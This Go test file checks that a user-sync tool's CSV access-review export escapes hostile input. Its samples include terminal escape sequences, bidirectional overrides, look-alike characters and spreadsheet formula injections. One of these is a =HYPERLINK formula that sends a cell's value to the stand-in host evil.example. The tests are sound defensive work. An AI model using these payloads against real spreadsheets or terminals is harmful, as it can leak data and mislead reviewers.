package views

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/wbsync/wbsync/pkg/model"
	"github.com/wbsync/wbsync/pkg/sanitize"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func reviewState() model.State {
	created := time.Date(2025, 3, 1, 9, 30, 0, 0, time.UTC)
	return model.State{
		Users: []model.User{
			{ID: "u3", UserName: "zed", Email: "zed@example.com", DisplayName: "Zed, \"the last\"", Active: true, OrgRole: model.RoleAdmin, Created: created, LastModified: created.Add(48 * time.Hour)},
			{ID: "u1", UserName: "Alice@Example.com", Email: "alice@example.com", DisplayName: "Alice\nSmith", Active: true, OrgRole: model.RoleMember},
			{ID: "u2", UserName: "bob-handle", Email: "bob@example.com", Active: false},
			{ID: "u4", UserName: "no-email", Active: true},
		},
		Teams: []model.Team{
			{ID: "g2", Name: "vision", Members: []model.Member{{UserID: "u1", Role: "Reviewer, senior"}, {UserID: "sa-1"}}},
			{ID: "g1", Name: "ml", Members: []model.Member{{UserID: "u1", Role: model.RoleAdmin}, {UserID: "u3"}, {UserID: "u2", Role: model.RoleMember}}},
		},
	}
}

func TestAccessReviewGolden(t *testing.T) {
	var b bytes.Buffer
	noEmail, err := WriteAccessReview(&b, reviewState())
	if err != nil {
		t.Fatal(err)
	}
	// A user without any email is listed, and returned to be warned about.
	if len(noEmail) != 1 || noEmail[0].ID != "u4" {
		t.Errorf("users without email %+v, want user u4", noEmail)
	}
	golden := filepath.Join("testdata", "access-review.csv")
	if *update {
		if err := os.WriteFile(golden, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), b.String()); d != "" {
		t.Errorf("access review differs from %s (run go test ./pkg/views -update and review):\n%s", golden, d)
	}
	// A consumer's parser reads back exactly the fields, commas and quotes
	// included; a line break in a name is escaped, so each row is one line.
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	wantRows := [][]string{
		AccessReviewHeader,
		{"", "no-email", "", "true", "", "", "", ""},
		{"alice@example.com", "", `Alice\nSmith`, "true", "member", "ml:admin;vision:Reviewer, senior", "", ""},
		{"bob@example.com", "bob-handle", "", "false", "", "ml:member", "", ""},
		{"zed@example.com", "zed", "Zed, \"the last\"", "true", "admin", "ml", "2025-03-01T09:30:00Z", "2025-03-03T09:30:00Z"},
	}
	if d := cmp.Diff(wantRows, rows); d != "" {
		t.Errorf("rows (-want +got):\n%s", d)
	}
}

// hostileNames are server strings that try to act on a terminal: an OSC
// title, BEL, SGR, C1 CSI (0x9b) and NEL (0x85), a right-to-left override,
// CR LF, NUL, and the other bidirectional controls.
const (
	hostileDisplay  = "A\x1b]0;pwned\x07\x1b[31mRED\u009b2J\u202eevil\r\nX"
	hostileUserName = "b\x1b[2J@example.com"
	hostileTeam1    = "ml\x1b[5m"
	hostileTeam2    = "t\u0085eam\x00x"
	hostileBidi     = "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\tend\x7f"
)

func TestAccessReviewEscapesControls(t *testing.T) {
	st := model.State{
		Users: []model.User{{
			ID: "u1", UserName: hostileUserName, Email: "a@example.com", DisplayName: hostileDisplay,
			Active: true, OrgRole: model.Role("admin\u202e"),
		}, {
			ID: "u2", UserName: "b2", Email: "b\u2067@example.com", DisplayName: hostileBidi, Active: true,
		}},
		Teams: []model.Team{
			{ID: "g1", Name: hostileTeam1, Members: []model.Member{{UserID: "u1", Role: "member\x1b[0m"}}},
			{ID: "g2", Name: hostileTeam2, Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "r,\"x\"\u202e"}}},
		},
	}
	var b bytes.Buffer
	if _, err := WriteAccessReview(&b, st); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for i, r := range out {
		switch {
		case r == '\n':
			// the record terminator, and only that (checked below)
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f, sanitize.Invisible(r):
			t.Errorf("raw %U at byte %d in\n%q", r, i, out)
		case r == utf8.RuneError:
			t.Errorf("invalid UTF-8 at byte %d in\n%q", i, out)
		}
	}
	if n := strings.Count(out, "\n"); n != 3 {
		t.Errorf("%d line breaks, want 3 (header and two rows):\n%s", n, out)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the review does not parse as CSV: %v\n%s", err, out)
	}
	want := [][]string{
		AccessReviewHeader,
		{"a@example.com", `b\x1b[2J@example.com`, `A\x1b]0;pwned\x07\x1b[31mRED\u009b2J\u202eevil\r\nX`, "true", `admin\u202e`,
			`ml\x1b[5m:member\x1b[0m;t\u0085eam\x00x`, "", ""},
		{`b\u2067@example.com`, "b2", `\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\tend\x7f`, "true", "",
			`t\u0085eam\x00x:r,"x"\u202e`, "", ""},
	}
	if d := cmp.Diff(want, rows); d != "" {
		t.Errorf("rows (-want +got):\n%s", d)
	}
}

// TestAccessReviewDefusesFormulas: a cell a spreadsheet would evaluate
// (a display name such as =HYPERLINK(...), chosen by its user) starts with
// ' instead, and so does an email, even a plain address (RFC 5322 allows
// = + and - at its start); other cells and = inside a cell are left as
// they are.
func TestAccessReviewDefusesFormulas(t *testing.T) {
	st := model.State{
		Users: []model.User{
			{ID: "u1", UserName: "+1handle", Email: "a@example.com", DisplayName: `=HYPERLINK("http://x/?"&A1,"open")`, Active: true, OrgRole: "@role"},
			{ID: "u2", UserName: "b", Email: "-b@example.com", DisplayName: "Bob = Builder", Active: true},
			// An email a hostile server sends that is no address is inert too.
			{ID: "u3", UserName: "c", Email: `=HYPERLINK("http://evil.example/?"&B2,"click")`, Active: true},
			{ID: "u4", UserName: "d", Email: "@SUM(1+1)", Active: true},
			{ID: "u5", UserName: "e", Email: "=1+2@example.com", Active: true},
			{ID: "u6", UserName: "f", Email: "'o@example.com", DisplayName: "'quoted", Active: true},
			// Spaces before a formula (an import that trims reads it), and
			// a full-width equals sign.
			{ID: "u7", UserName: "g", Email: "g@example.com", DisplayName: "  =1+1", Active: true},
			{ID: "u8", UserName: "h", Email: "h@example.com", DisplayName: "\uff1d1+1", Active: true},
		},
		Teams: []model.Team{{ID: "g1", Name: "-ops", Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "=cmd"}}}},
	}
	rows := reviewRows(t, st)
	want := [][]string{
		AccessReviewHeader,
		{"''o@example.com", "f", "''quoted", "true", "", "", "", ""},
		{"'-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
		{"'=1+2@example.com", "e", "", "true", "", "", "", ""},
		{`'=HYPERLINK("http://evil.example/?"&B2,"click")`, "c", "", "true", "", "", "", ""},
		{"'@SUM(1+1)", "d", "", "true", "", "", "", ""},
		{"a@example.com", "'+1handle", `'=HYPERLINK("http://x/?"&A1,"open")`, "true", "'@role", "'-ops", "", ""},
		{"g@example.com", "g", "'  =1+1", "true", "", "", "", ""},
		{"h@example.com", "h", `\uff1d1+1`, "true", "", "", "", ""},
	}
	if d := cmp.Diff(want, rows); d != "" {
		t.Errorf("rows (-want +got):\n%s", d)
	}
}

// TestAccessReviewTeamsByName: the teams cell is sorted by team name,
// not by the joined "team:role" text (where "a-b:member" sorts before
// "a:admin").
func TestAccessReviewTeamsByName(t *testing.T) {
	st := model.State{
		Users: []model.User{{ID: "u1", UserName: "a@example.com", Email: "a@example.com", Active: true}},
		Teams: []model.Team{
			{ID: "g2", Name: "a-b", Members: []model.Member{{UserID: "u1", Role: "member"}}},
			{ID: "g1", Name: "a", Members: []model.Member{{UserID: "u1", Role: "admin"}}},
		},
	}
	rows := reviewRows(t, st)
	if got := rows[1][5]; got != "a:admin;a-b:member" {
		t.Errorf("teams %q, want a:admin;a-b:member", got)
	}
}

// reviewRows writes st's access review and parses it back as CSV.
func reviewRows(t *testing.T, st model.State) [][]string {
	t.Helper()
	var b bytes.Buffer
	if _, err := WriteAccessReview(&b, st); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestAccessReviewTeamsSeparatorsEscaped: a team or role name holding the
// cell's separators cannot read as another team or role.
func TestAccessReviewTeamsSeparatorsEscaped(t *testing.T) {
	st := model.State{
		Users: []model.User{{ID: "u1", UserName: "a@example.com", Email: "a@example.com", Active: true}},
		Teams: []model.Team{
			{ID: "g1", Name: "eng", Members: []model.Member{{UserID: "u1", Role: "Lead;admins:admin"}}},
			{ID: "g2", Name: `x\y`, Members: []model.Member{{UserID: "u1"}}},
		},
	}
	if got, want := reviewRows(t, st)[1][5], `eng:Lead\;admins\:admin;x\\y`; got != want {
		t.Errorf("teams %q, want %q", got, want)
	}
}

// TestAccessReviewLookAlikeUsername: a userName that equals the email only
// when a character outside ASCII is folded (a Kelvin sign for the k) is a
// handle of its own, shown in the username column (escaped: it passes for
// an ASCII k).
func TestAccessReviewLookAlikeUsername(t *testing.T) {
	st := model.State{Users: []model.User{{ID: "u1", UserName: "\u212Aate@example.com", Email: "kate@example.com", Active: true}}}
	rows := reviewRows(t, st)
	col := slices.Index(AccessReviewHeader, "username")
	if col < 0 || rows[1][col] != `\u212aate@example.com` { // escaped: it passes for kate@
		t.Errorf("row %q, want the look-alike userName in column %d", rows[1], col)
	}
}

// TestAccessReviewTeamLookAlike: the teams column shows a team named bіg
// (Cyrillic і) as the plan shows it, b\u0456g, not as "big", which a
// reviewer would take for the team big; a team named with the six
// characters \u0456 has its backslash doubled, as every backslash there.
func TestAccessReviewTeamLookAlike(t *testing.T) {
	st := model.State{
		Users: []model.User{{ID: "u1", UserName: "a@example.com", Email: "a@example.com", Active: true}},
		Teams: []model.Team{
			{ID: "g1", Name: "b\u0456g", Members: []model.Member{{UserID: "u1", Role: "admin"}}},
			{ID: "g2", Name: `c\u0456g`, Members: []model.Member{{UserID: "u1"}}},
		},
	}
	if got, want := reviewRows(t, st)[1][5], `b\u0456g:admin;c\\u0456g`; got != want {
		t.Errorf("teams %q, want %q", got, want)
	}
}

// TestAccessReviewCJKName: a Japanese or Chinese display name with
// full-width parentheses or a comma, ordinary CJK typography that passes
// for no ASCII name, is written as it is.
func TestAccessReviewCJKName(t *testing.T) {
	for _, name := range []string{"山田太郎（営業部）", "张三，李四", "研究チーム：東京"} {
		st := model.State{Users: []model.User{{ID: "u1", UserName: "a@example.com", Email: "a@example.com", DisplayName: name, Active: true}}}
		if got := reviewRows(t, st)[1][2]; got != name {
			t.Errorf("name %q written %q", name, got)
		}
	}
}
